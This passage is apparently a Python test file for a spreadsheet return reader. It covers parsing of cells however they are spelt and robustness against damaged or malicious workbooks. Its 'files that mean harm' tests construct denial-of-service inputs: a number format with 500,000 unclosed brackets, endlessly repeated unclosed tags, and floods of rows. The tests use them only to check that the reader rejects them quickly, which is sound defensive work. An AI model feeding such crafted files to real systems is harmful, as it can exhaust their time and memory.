        assert "XFD1048576" in self.one(Form().enter("Costs", {"XFD1048576": 5.0}).save(tmp_path))

    def test_links_and_connections_are_told_and_never_followed(self, tmp_path):
        form = Form().line(6, component="Licence", amount=5.0)
        form.parts |= {"xl/externalLinks/externalLink1.xml": b"<x/>", "xl/connections.xml": b"<x/>"}
        returned = read_return(form.save(tmp_path))
        assert [(f.key, f.severity) for f in returned.findings] == [("external_links", "note"), ("connections", "note")]

    def test_a_fault_that_nobody_foresaw_is_one_finding(self, tmp_path, monkeypatch):
        monkeypatch.setattr("crm_xl.collection.reading.returned.read_structure", lambda *_, **__: 1 / 0)
        assert "ZeroDivisionError" in self.one(Form().save(tmp_path))

    def test_parts_with_random_damage_never_raise(self, tmp_path):
        import random

        chance = random.Random(7)
        base = Form().line(6, component="Licence", amount="1,200.00").bytes()
        package = Package.open(base)
        names = [n for n in package.parts if n.endswith((".xml", ".rels")) and "theme" not in n]
        for _ in range(60):
            part = chance.choice(names)
            content = bytearray(package.parts[part])
            for _ in range(chance.randint(1, 3)):
                place = chance.randrange(len(content))
                content[place : place + chance.randrange(12)] = chance.choice(
                    [b"", b"<", b"-9", b"1e999", b"<!--", b'"']
                )
            path = self.written(tmp_path, package.to_bytes({part: bytes(content)}))
            assert isinstance(read_return(path), Return)


class TestCellsAreReadHoweverTheyAreSpelt:
    PLAIN = (
        '<?xml version="1.0"?><worksheet xmlns="m"><sheetData><row r="2" hidden="1"><c r="B2" t="s"><v>0</v></c>'
        '<c r="C2" t="inlineStr"><is><t>a &amp; b</t></is></c><c r="D2" t="b"><v>1</v></c>'
        '<c r="E2" t="e"><v>#N/A</v></c><c r="F2" s="3"/><c r="G2"><f>1+1</f><v>2</v></c></row></sheetData></worksheet>'
    )

    def read(self, xml: str):
        return read_cells(xml.encode(), ("one",), sheet="S", file="f", part="p")

    def expected(self, found):
        assert found.rows == {2: {2: "one", 3: "a & b", 4: True, 5: ErrorValue.NA, 7: 2.0}}
        assert found.formulas == {(2, 7): "1+1"}
        assert found.hidden_rows == {2}

    def test_plainly(self):
        self.expected(self.read(self.PLAIN))

    def test_with_prefixes(self):
        import re

        xml = re.sub(r"<(/?)([a-z])", r"<\1x:\2", self.PLAIN.replace("xmlns", "xmlns:x").partition("?>")[2])
        self.expected(self.read(xml))

    def test_with_single_quotes_comments_and_attributes_in_another_order(self):
        xml = self.PLAIN.replace('"', "'").replace(
            "<c r='B2' t='s'>", "<!-- <c r='Z9'><v>9</v></c> --><c t='s' r='B2'>"
        )
        self.expected(self.read(xml))

    def test_without_places(self):
        import re

        xml = re.sub(r'(<c) r="[C-G]2"', r"\1", self.PLAIN)
        self.expected(self.read(xml))

    def test_a_cell_that_cannot_be_understood_is_not_passed_over(self):
        with pytest.raises(WorkbookError, match="damaged"):
            self.read(self.PLAIN.replace('<c r="B2" t="s">', '<c r="B2" t="s" x="a/b">'))

    def test_with_cdata(self):
        self.expected(self.read(self.PLAIN.replace("a &amp; b", "<![CDATA[a & b]]>")))


class TestFilesThatMeanHarm:
    def test_a_number_format_without_end_takes_no_time(self, tmp_path):
        path = made.returned(tmp_path / "sales.xlsx", [line(amount=dt.date(2027, 1, 1))])
        form = Package.open(path.read_bytes(), path.name)
        styles = form.parts["xl/styles.xml"].replace(b'"yyyy-mm-dd"', b'"%b"' % (b"[" * 500_000))
        path.write_bytes(form.to_bytes({"xl/styles.xml": styles}))
        begun = time.process_time()
        assert not read_return(path).rejected
        assert time.process_time() - begun < 1

    """Each of these would take minutes or all memory were it read carelessly; here they take a moment."""

    @pytest.mark.parametrize(
        "piece", ['<c r="A1" t="inlineStr"><is>', "<row <row ", '<c r="A1"><f>', "<col hidden='1' "]
    )
    def test_tags_that_never_close_cost_no_more_than_others(self, tmp_path, piece):
        form = Form().change("Costs", b"<sheetData>", "<sheetData>" + piece * 100_000)
        assert read_return(form.save(tmp_path)).rejected

    def test_numbers_all_over_a_sheet_are_counted_and_not_told_one_by_one(self, tmp_path):
        row = "".join(f'<row r="{i}"><c r="AZ{i}"><v>1</v></c></row>' for i in range(1000, 6000))
        returned = read_return(Form().change("Costs", b"</sheetData>", row + "</sheetData>").save(tmp_path))
        assert len(returned.strays) == 101
        assert returned.strays[-1].text("en").startswith("More numbers stand outside the table of this sheet (4900)")

    def test_a_sheet_of_endless_lines_is_rejected_whole(self, tmp_path):
        row = "".join(f'<row r="{i}"><c r="H{i}"><v>1</v></c></row>' for i in range(1000, 22_000))
        returned = read_return(Form().change("Costs", b"</sheetData>", row + "</sheetData>").save(tmp_path))
        assert "more than 20000 lines" in returned.findings[0].text("en")
        assert returned.rejected


def test_a_number_that_is_neither_a_day_nor_a_year_of_the_model_is_told(tmp_path):
    lines = [line(amount=1.0, committed_until=value) for value in (77.0, 2.0, 2028.0)]
    found = [f for f in read_return(made.returned(tmp_path / "sales.xlsx", lines)).everything if f.key == "year_beyond"]
    assert [(f.cell, f.severity) for f in found] == [("AE6", "note")]
